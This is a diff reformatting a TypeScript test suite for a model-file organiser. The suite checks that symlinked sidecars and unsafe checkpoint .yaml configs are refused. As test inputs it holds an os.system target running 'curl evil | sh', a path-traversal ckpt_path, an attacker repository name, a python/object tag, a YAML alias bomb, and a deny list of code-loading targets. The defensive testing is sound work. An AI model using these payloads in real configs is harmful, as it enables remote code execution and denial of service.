@@ -29,7 +29,8 @@ function move(entry: PlanEntry | undefined): MoveEntry {
 }
 
 const carried = (entry: MoveEntry) => entry.sidecars.map((s) => basename(s.source)).sort();
-const left = (entry: MoveEntry | SkipEntry) => Object.fromEntries((entry.sidecarsLeft ?? []).map((l) => [basename(l.path), l.reason]));
+const left = (entry: MoveEntry | SkipEntry) =>
+  Object.fromEntries((entry.sidecarsLeft ?? []).map((l) => [basename(l.path), l.reason]));
 
 describe("a sidecar travels only when it is what its name says", () => {
   it("carries real previews, info files and descriptions", async () => {
@@ -84,7 +85,9 @@ describe("a sidecar travels only when it is what its name says", () => {
     await writeFile(big, PNG_PREVIEW);
     await truncate(big, SIDECAR_MAX_BYTES.image + 1); // sparse
     const entry = move((await plan([lora], target)).entries[0]);
-    expect(left(entry)).toEqual({ "m.preview.png": { type: "too-large", size: SIDECAR_MAX_BYTES.image + 1, limit: SIDECAR_MAX_BYTES.image } });
+    expect(left(entry)).toEqual({
+      "m.preview.png": { type: "too-large", size: SIDECAR_MAX_BYTES.image + 1, limit: SIDECAR_MAX_BYTES.image },
+    });
   });
 });
 
@@ -125,7 +128,9 @@ describe("a sidecar that is a link or a special file never travels", () => {
     await symlink(secret, join(downloads, "cool.preview.png"));
     await applyPlan(planned, { journalDir });
     expect(await readdir(join(root, "models/Lora"))).toEqual(["cool.safetensors"]);
-    await expect(placeFile(join(downloads, "cool.preview.png"), join(root, "models/Lora/x.png"), { keepSource: true })).rejects.toMatchObject({
+    await expect(
+      placeFile(join(downloads, "cool.preview.png"), join(root, "models/Lora/x.png"), { keepSource: true }),
+    ).rejects.toMatchObject({
       code: "ENOTFILE",
     });
     expect(await readdir(join(root, "models/Lora"))).toEqual(["cool.safetensors"]);
@@ -174,16 +179,33 @@ describe("a checkpoint's .yaml travels only as a model config the WebUIs' own co
   });
 
   it("leaves a config that calls os.system, at any depth", async () => {
-    const evil = V_PREDICTION_CONFIG.replace("target: torch.nn.Identity", "target: os.system\n          params: {command: 'curl evil | sh'}");
+    const evil = V_PREDICTION_CONFIG.replace(
+      "target: torch.nn.Identity",
+      "target: os.system\n          params: {command: 'curl evil | sh'}",
+    );
     expect(await configCase(evil)).toEqual({
       carried: [],
-      reason: { type: "config-refused", problem: { type: "target", path: "model.params.first_stage_config.params.lossconfig.target", target: "os.system" } },
+      reason: {
+        type: "config-refused",
+        problem: {
+          type: "target",
+          path: "model.params.first_stage_config.params.lossconfig.target",
+          target: "os.system",
+        },
+      },
     });
-    expect((await configCase("model:\n  target: os.system\n")).reason).toMatchObject({ problem: { type: "target", target: "os.system" } });
+    expect((await configCase("model:\n  target: os.system\n")).reason).toMatchObject({
+      problem: { type: "target", target: "os.system" },
+    });
   });
 
   it("leaves instantiate_from_config (builds whatever it is told) and prefix look-alikes", async () => {
-    for (const target of ["ldm.util.instantiate_from_config", "ldm.models.diffusion.ddpm.LatentDiffusionX", "sgm.util.get_obj_from_str", "torch.load"]) {
+    for (const target of [
+      "ldm.util.instantiate_from_config",
+      "ldm.models.diffusion.ddpm.LatentDiffusionX",
+      "sgm.util.get_obj_from_str",
+      "torch.load",
+    ]) {
       expect((await configCase(`model:\n  target: ${target}\n`)).reason, target).toEqual({
         type: "config-refused",
         problem: { type: "target", path: "model.target", target },
@@ -192,13 +214,21 @@ describe("a checkpoint's .yaml travels only as a model config the WebUIs' own co
   });
 
   it("leaves a config whose allowed classes are pointed at a file to torch.load or a repository to download", async () => {
-    const withCkpt = V_PREDICTION_CONFIG.replace('parameterization: "v"', 'parameterization: "v"\n    ckpt_path: "../../Downloads/evil.ckpt"');
+    const withCkpt = V_PREDICTION_CONFIG.replace(
+      'parameterization: "v"',
+      'parameterization: "v"\n    ckpt_path: "../../Downloads/evil.ckpt"',
+    );
     expect((await configCase(withCkpt)).reason).toEqual({
       type: "config-refused",
       problem: { type: "value", path: "model.params.ckpt_path", value: "../../Downloads/evil.ckpt" },
     });
-    const withRepo = V_PREDICTION_CONFIG.replace('layer: "penultimate"', 'layer: "penultimate"\n        version: "attacker/pickled-clip"');
-    expect((await configCase(withRepo)).reason).toMatchObject({ problem: { type: "value", value: "attacker/pickled-clip" } });
+    const withRepo = V_PREDICTION_CONFIG.replace(
+      'layer: "penultimate"',
+      'layer: "penultimate"\n        version: "attacker/pickled-clip"',
+    );
+    expect((await configCase(withRepo)).reason).toMatchObject({
+      problem: { type: "value", value: "attacker/pickled-clip" },
+    });
   });
 
   it("leaves a !!python/object tag, any custom tag, and an alias bomb without expanding it", async () => {
@@ -206,9 +236,16 @@ describe("a checkpoint's .yaml travels only as a model config the WebUIs' own co
       type: "config-refused",
       problem: { type: "tag", tag: "tag:yaml.org,2002:python/object/apply:os.system" },
     });
-    expect((await configCase("model: !custom\n  target: torch.nn.Identity\n")).reason).toMatchObject({ problem: { type: "tag", tag: "!custom" } });
+    expect((await configCase("model: !custom\n  target: torch.nn.Identity\n")).reason).toMatchObject({
+      problem: { type: "tag", tag: "!custom" },
+    });
     const levels = ["a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]"];
-    for (let i = 1; i < 9; i++) levels.push(`${"abcdefghi"[i]}: &${"abcdefghi"[i]} [${Array(9).fill(`*${"abcdefghi"[i - 1]}`).join(", ")}]`);
+    for (let i = 1; i < 9; i++)
+      levels.push(
+        `${"abcdefghi"[i]}: &${"abcdefghi"[i]} [${Array(9)
+          .fill(`*${"abcdefghi"[i - 1]}`)
+          .join(", ")}]`,
+      );
     const bomb = `model:\n  target: torch.nn.Identity\n${levels.join("\n")}\n`;
     expect((await configCase(bomb)).reason).toEqual({ type: "config-refused", problem: { type: "alias" } });
   });
@@ -223,7 +260,8 @@ describe("a checkpoint's .yaml travels only as a model config the WebUIs' own co
       // Nesting a parser would recurse into: reported, not a stack overflow.
       [`model:\n  target: torch.nn.Identity\nx: ${"[".repeat(20_000)}`, "syntax"],
     ];
-    for (const [yaml, type] of cases) expect((await configCase(yaml)).reason, yaml).toMatchObject({ type: "config-refused", problem: { type } });
+    for (const [yaml, type] of cases)
+      expect((await configCase(yaml)).reason, yaml).toMatchObject({ type: "config-refused", problem: { type } });
   });
 
   it("never takes a .yaml beside a model that is not a checkpoint", async () => {
